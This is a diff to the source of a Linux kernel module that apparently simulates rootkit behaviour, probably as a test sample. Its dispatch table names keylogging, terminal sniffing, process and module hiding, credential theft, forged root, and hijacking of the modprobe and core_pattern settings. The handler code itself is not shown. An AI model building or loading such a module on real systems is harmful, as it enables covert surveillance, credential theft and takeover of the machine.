@@ -3,8 +3,8 @@
  *
  *     insmod MODULE.ko attacks=ATTACK,ATTACK ...
  *
- * samples/kernel_module.py compiles it for one kernel without that kernel's headers: AT, SIZE and HAS are what the
- * kernel's own type information says of a structure and its field. Functions of the kernel are found by name, as
+ * samples/kernel_module.py compiles it for one kernel without that kernel's headers: AT, SIZE, COUNT and HAS are
+ * what the kernel's own type information says of a structure and its field. Functions of the kernel are found by name, as
  * rootkits do since 5.7: a kprobe leads to kallsyms_lookup_name. What was done is in the kernel's log.
  */
 typedef unsigned long ulong;
@@ -415,6 +415,9 @@ static int hide_module(void)
 	return -3;
 }
 
+#include "rootkit_handlers.h"
+#include "rootkit_settings.h"
+
 /* --- the module ------------------------------------------------------------------------------------------------------ */
 
 static const struct {
@@ -427,6 +430,11 @@ static const struct {
 	{ "keyboard", log_keys }, { "tty", sniff_terminal }, { "timer", arm_timer }, { "process", hide_process },
 	{ "socket", hide_socket }, { "thread", pose_as_thread }, { "credentials", steal_credentials },
 	{ "root", forge_root }, { "module", hide_module },
+	{ "security", add_security_hook }, { "tracepoint", probe_tracepoint }, { "uprobe", probe_program },
+	{ "work", keep_working }, { "delayed", delay_work }, { "interrupt", share_interrupt },
+	{ "kthread", start_thread }, { "format", register_format }, { "device", replace_device },
+	{ "sysfs", replace_attribute },
+	{ "modprobe", set_modprobe }, { "core", set_core_pattern }, { "poweroff", set_poweroff },
 };
 
 int init_module(void)
